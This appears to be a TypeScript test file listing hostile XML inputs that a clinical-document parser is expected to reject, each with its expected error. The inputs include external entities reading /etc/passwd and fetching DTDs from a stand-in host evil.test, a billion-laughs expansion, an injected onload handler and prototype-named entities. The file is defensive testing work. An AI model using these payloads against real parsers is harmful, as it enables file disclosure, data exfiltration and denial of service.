import { after, type Case, character, good, inside, many, utf8 } from './parts.ts';

const withDoctype = (subset: string, text = '') =>
  after(`<!DOCTYPE ClinicalDocument ${subset}>`).replace('None known', text);
const doctype = /^it has a document type declaration/;
const entity = /^it uses an entity that is not one of the five|^it has a "&" that begins no entity|^it ends/;
const laughs = Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY l${String(at + 1)} "${many(10, `&l${String(at)};`)}">`,
).join('');

export const entities: readonly Case[] = [
  ['an entity of a file', utf8(() => withDoctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', '&x;')), doctype],
  ['an entity of a server', utf8(() => withDoctype('[<!ENTITY x SYSTEM "http://evil.test/x">]', '&x;')), doctype],
  ['a parameter entity', utf8(() => withDoctype('[<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]')), doctype],
  ['an external document type', utf8(() => withDoctype('SYSTEM "http://evil.test/x.dtd"')), doctype],
  [
    'a public document type',
    utf8(() => withDoctype('PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://evil.test/x.dtd"')),
    doctype,
  ],
  ['a billion laughs', utf8(() => withDoctype(`[<!ENTITY l0 "lol">${laughs}]`, '&l9;')), doctype],
  [
    'a large entity many times',
    utf8(() => withDoctype(`[<!ENTITY x "${many(100_000, 'x')}">]`, many(10_000, '&x;'))),
    doctype,
  ],
  [
    'default attributes of a document type',
    utf8(() => withDoctype('[<!ATTLIST text onload CDATA "steal()">]')),
    doctype,
  ],
  [
    'a document type without an end',
    utf8(() => `<!DOCTYPE x [${many(1_000_000, '<')}`),
    /^it has no root element|^it ends|^it is not well-formed/,
  ],
  ['a document type behind the root', utf8(() => `${good}<!DOCTYPE x>`), doctype],
  ['a document type in UTF-16', () => Buffer.from(`\uFEFF${withDoctype('[<!ENTITY x "y">]')}`, 'utf16le'), doctype],
  ['a flood of unknown entities', utf8(() => inside(many(1_000_000, '&a;'))), entity],
  ['entities of HTML', utf8(() => inside('a&nbsp;b')), entity],
  ['an entity named as a property', utf8(() => inside('&constructor;')), entity],
  ['an entity named as a prototype', utf8(() => inside('&__proto__;')), entity],
  ['an entity without an end', utf8(() => inside(`&${many(1_000_000, 'a')}`)), entity],
  ['300,000 character references', utf8(() => inside(`<paragraph>${many(300_000, '&#65;')}</paragraph>`)), null],
  ['a reference to NUL', utf8(() => inside('&#0;')), character],
  ['a reference to a control character', utf8(() => inside('&#x1F;')), character],
  ['a reference to half a surrogate pair', utf8(() => inside('&#xD800;')), character],
  ['a reference beyond Unicode', utf8(() => inside('&#x110000;')), character],
  ['a reference beyond numbers', utf8(() => inside(`&#x${many(100_000, 'F')};`)), character],
  ['markup written as references', utf8(() => inside('&#60;script&#62;steal()&#60;/script&#62;')), null],
];
